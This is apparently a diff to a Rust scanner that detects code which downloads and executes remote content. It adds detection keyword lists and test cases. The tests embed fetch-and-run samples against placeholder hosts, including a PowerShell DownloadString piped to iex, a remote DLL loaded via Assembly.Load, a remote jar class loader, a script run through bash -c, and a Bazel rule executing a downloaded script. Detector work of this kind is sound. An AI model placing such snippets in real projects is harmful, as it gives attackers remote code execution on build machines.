@@ -52,6 +52,26 @@ const DOWNLOADS: &[&str] = &[
     "tesla.get",
     "finch.request",
     "readlines(url(",
+    // .NET, the JVM languages, Dart, Haskell, Rust, Go, Zig, Bazel and CMake.
+    "getbytearrayasync(",
+    "getstreamasync(",
+    "webclient",
+    "urlclassloader(",
+    "newurl(",
+    "fromurl(",
+    "openstream(",
+    "openconnection(",
+    "geturl(",
+    "simplehttp",
+    "httpbs(",
+    "httplbs(",
+    "reqwest::",
+    "ureq::",
+    "http.newrequest(",
+    "std.http.client",
+    ".download(",
+    ".download_and_extract(",
+    "file(download",
 ];
 
 /// Evaluations of code text or of a file, called as such (not `.exec(` of a regular
@@ -76,6 +96,22 @@ const EVALS: &[&str] = &[
     "runinthiscontext(",
     "runinnewcontext(",
     "spec_from_file_location(",
+    // Code loaded as a library or a class (`Assembly.Load(bytes)`, a class loader), handed
+    // to a shell as text (`Seq("bash", "-c", text).!`), run as a command (a Bazel
+    // repository rule's `ctx.execute`, Haskell's `callCommand`), or included (CMake).
+    "assembly.load(",
+    "assembly.loadfrom(",
+    ".loadclass(",
+    ".defineclass(",
+    // (Compacted text has no quotes: `Seq("bash", "-c", t)` reads `seq(bash,-c,t)`.)
+    "(bash,-c,",
+    "(sh,-c,",
+    "callcommand(",
+    "rawsystem(",
+    "system(",
+    "os.execute(",
+    ".execute(",
+    "include(",
 ];
 
 /// Does `compact` call `name` as a function of its own (the character before it is not part
@@ -88,6 +124,7 @@ fn calls(compact: &str, name: &str) -> bool {
             .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
             || name.contains('.')
             || name.contains('_')
+            || name.starts_with('(')
     })
 }
 
@@ -106,10 +143,13 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     if w.path.contains("/node_modules/") || w.path.contains("/site-packages/") {
         return;
     }
+    // From a host nobody listed; after untrusted content, from any host (anyone can publish
+    // on a listed forge: `raw.githubusercontent.com/<someone>/…`).
+    let untrusted = cx.untrusted();
     let hosts_unlisted = |lower: &str| {
-        crate::net::hosts_named_in_text(lower)
-            .iter()
-            .any(|h| !cx.host_listed(h) && !h.ends_with(".local") && h != "localhost")
+        crate::net::hosts_named_in_text(lower).iter().any(|h| {
+            (untrusted || !cx.host_listed(h)) && !h.ends_with(".local") && h != "localhost"
+        })
     };
     if w.hunks.iter().any(|h| {
         fetches_and_runs(&h.new_lower)
@@ -148,7 +188,43 @@ mod tests {
                 "iex (New-Object Net.WebClient).DownloadString('https://ps.example/p.ps1')\n",
                 Auth,
             ),
-            // Look-alikes: data fetched and parsed; local code evaluated; a regex `.exec`.
+            (
+                "Directory.Build.targets",
+                "<Code Type=\"Fragment\" Language=\"cs\"><![CDATA[\n var http = new HttpClient();\n var bytes = http.GetByteArrayAsync(\"https://build-insights.example/agent.dll\").Result;\n Assembly.Load(bytes).GetType(\"Agent\");\n]]></Code>\n",
+                Auth,
+            ),
+            (
+                "src/test/java/x/Warmup.java",
+                "try (var l = new URLClassLoader(new URL[] { new URL(\"https://repo.warmup.example/w.jar\") })) {\n  l.loadClass(\"w.Warmup\").getMethod(\"run\").invoke(null);\n}\n",
+                Auth,
+            ),
+            (
+                "project/OrgRules.scala",
+                "val src = scala.io.Source.fromURL(\"https://org-rules.example/bootstrap.sh\")\nSeq(\"bash\", \"-c\", src.mkString).!\n",
+                Auth,
+            ),
+            (
+                "tools/grpc_web/repo.bzl",
+                "def _impl(ctx):\n    ctx.download(url = \"https://grpc-web-tools.example/setup.sh\", output = \"setup.sh\")\n    ctx.execute([\"bash\", \"setup.sh\"])\n",
+                Auth,
+            ),
+            // Look-alikes: data fetched and parsed; local code evaluated; a regex `.exec`;
+            // a class loader over a local jar; CMake's own bootstrap from its releases.
+            (
+                "src/Api/Client.cs",
+                "var http = new HttpClient();\nvar json = await http.GetStringAsync(\"https://api.acme.example/v1/rates\");\nvar rates = JsonSerializer.Deserialize<Rates>(json);\n",
+                Pass,
+            ),
+            (
+                "src/main/java/x/Plugins.java",
+                "var l = new URLClassLoader(new URL[] { new File(\"plugins/p.jar\").toURI().toURL() });\nl.loadClass(\"p.Plugin\");\n",
+                Pass,
+            ),
+            (
+                "cmake/CPM.cmake",
+                "file(DOWNLOAD https://github.com/cpm-cmake/CPM.cmake/releases/download/v0.40.2/CPM.cmake ${CPM_DOWNLOAD_LOCATION})\ninclude(${CPM_DOWNLOAD_LOCATION})\n",
+                Pass,
+            ),
             (
                 ".Rprofile",
                 "local({\n  h <- tempfile()\n  utils::download.file(\"https://cran.r-project.org/src/contrib/PACKAGES\", h)\n  pkgs <- read.dcf(h)\n})\n",
